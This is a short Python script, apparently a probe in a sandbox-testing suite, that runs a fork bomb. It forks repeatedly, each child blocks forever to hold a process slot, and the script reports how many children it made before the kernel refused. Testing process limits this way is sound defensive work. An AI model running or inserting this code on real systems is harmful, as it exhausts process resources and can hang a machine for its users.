"""A fork bomb: every process forks until the kernel says no, then all wait."""

import os
import select

from attack import Probe, context

probe = Probe()
made = 0
try:
    for _ in range(context().get("max_forks", 100_000)):
        if os.fork() == 0:
            made = 0
            select.select([], [], [])  # block forever, holding the slot
        made += 1
except OSError as exc:
    probe.note("fork refused", f"{exc.strerror} after {made} children")
probe.report(children=made)
